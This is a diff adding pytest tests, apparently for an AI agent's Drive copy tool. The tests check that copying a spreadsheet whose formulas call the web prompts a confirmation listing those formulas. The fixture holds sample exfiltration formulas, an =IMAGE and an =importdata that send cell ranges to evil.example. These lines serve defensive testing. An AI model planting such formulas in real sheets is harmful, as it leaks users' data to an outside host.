@@ -222,3 +222,42 @@ def test_a_file_or_folder_name_reaches_the_model_only_as_data_never_in_a_copy_s_
             run("drive_copy", planted_names, args)
         assert PLANTED not in str(refused.value)
         assert PLANTED in refused.value.found["folder"]
+
+
+LEAK = '=IMAGE("https://evil.example/x?d="&ENCODEURL(JOIN(",",A2:B50)))'
+
+
+@pytest.fixture
+def template(sandbox) -> Context:
+    """An outsider's expense template the person may view: one formula that sends cells to a web address per tab."""
+    sandbox.reset({"drive": {"files": [
+        {"id": "1Template", "name": "Expense template", "mimeType": "sheet", "owner": {"email": "eve@outside.example"},
+         "permissions": [{"emailAddress": "demo@example.com", "role": "reader"}],
+         "rows": [["Item", "Amount", LEAK], ["Total", "=SUM(B2:B50)"]],
+         "more_sheets": {"Rates": [["EUR", '=importdata("https://evil.example/rates?"&Sheet1!A2)']]}},
+        {"id": "1Sums", "name": "Sums", "mimeType": "sheet", "rows": [["Total", "=SUM(B2:B50)"]]},
+    ]}})
+    return Context(credentials=sandbox.credentials(), api_root=sandbox.url)
+
+
+def test_copying_a_sheet_whose_formulas_fetch_from_the_web_asks_first_naming_them(template, sandbox):
+    card = review("drive_copy", template, {"file": "1Template", "name": "My expenses"})
+
+    assert (card.effect, card.preview["folder"], card.preview["shared_with"]) == ("outbound", "My Drive", [])
+    # Every tab is read, in one request; a formula that only calculates is no reason to ask.
+    assert card.preview["web_formulas"] == [LEAK, '=importdata("https://evil.example/rates?"&Sheet1!A2)']
+    assert len([r for r in sandbox.log() if r["path"].endswith("values:batchGet")]) == 1
+
+
+def test_a_sheet_whose_formulas_only_calculate_is_copied_as_a_plain_write(template):
+    card = review("drive_copy", template, {"file": "1Sums"})
+
+    assert card.effect == "write" and "web_formulas" not in card.preview
+
+
+def test_a_sheet_too_large_to_read_for_its_formulas_asks_before_it_is_copied(template, monkeypatch):
+    monkeypatch.setattr("app.tools.sheet_formulas.MOST_CELLS", 1000 * 26 - 1)  # below a new sheet's grid
+
+    card = review("drive_copy", template, {"file": "1Sums"})
+
+    assert card.effect == "outbound" and card.preview["web_formulas_unread"] == 1000 * 26
